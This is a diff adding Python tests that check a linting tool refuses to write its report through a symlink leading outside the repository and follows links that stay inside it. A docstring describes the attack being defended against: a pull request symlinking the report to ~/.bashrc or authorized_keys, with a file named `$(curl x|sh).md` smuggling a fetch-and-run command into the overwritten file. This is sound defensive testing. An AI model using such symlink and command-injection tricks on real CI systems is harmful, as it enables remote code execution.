@@ -282,3 +282,31 @@ def test_the_walk_visits_what_os_walk_visits_in_the_same_order(tmp_path):
     errors: list = []
     assert visit(walk(str(root), onerror=errors.append)) == visit(os.walk(str(root), followlinks=True))
     assert visit(walk(str(root / "nowhere"), onerror=errors.append)) == [] and len(errors) == 1
+
+
+# --------------------------------------------------------------------------- writes
+
+def test_a_report_path_committed_as_a_link_out_of_the_repository_is_never_written_through(estate, tmp_path_factory):
+    """CI names `-o report.txt`; the pull request commits report.txt (or the folder it
+    goes in) as a symlink to a file CI's user may write: ~/.bashrc, authorized_keys,
+    /dev/sda. Writing through it would replace that file with a report whose lines the
+    pull request partly chose (a file named `$(curl x|sh).md` is a line of its own)."""
+    outside = tmp_path_factory.mktemp("home")
+    victim = outside / ".bashrc"
+    victim.write_text("precious\n")
+    os.symlink(victim, estate / "report.txt")
+    os.symlink(outside, estate / "reports")
+    for args in (["-o", "report.txt"], ["-o", "reports/new.txt"], ["--update-baseline", "report.txt"]):
+        p = run_planner(estate, "lint", "--no-cache", "--fail-on", "none", *args)
+        assert p.returncode == 2, p.stderr
+        assert len(p.stderr.strip().splitlines()) == 1 and "symbolic link leads out of the repository" in p.stderr
+    assert victim.read_text() == "precious\n" and sorted(os.listdir(outside)) == [".bashrc"]
+    assert os.path.islink(estate / "report.txt")
+
+
+def test_a_report_link_that_stays_inside_the_repository_is_followed(estate):
+    (estate / "reports").mkdir()
+    os.symlink("reports/latest.txt", estate / "report.txt")
+    p = run_planner(estate, "lint", "--no-cache", "--fail-on", "none", "-o", "report.txt")
+    assert p.returncode == 0, p.stderr
+    assert os.path.islink(estate / "report.txt") and "content/control/conflict.md" in (estate / "reports" / "latest.txt").read_text()
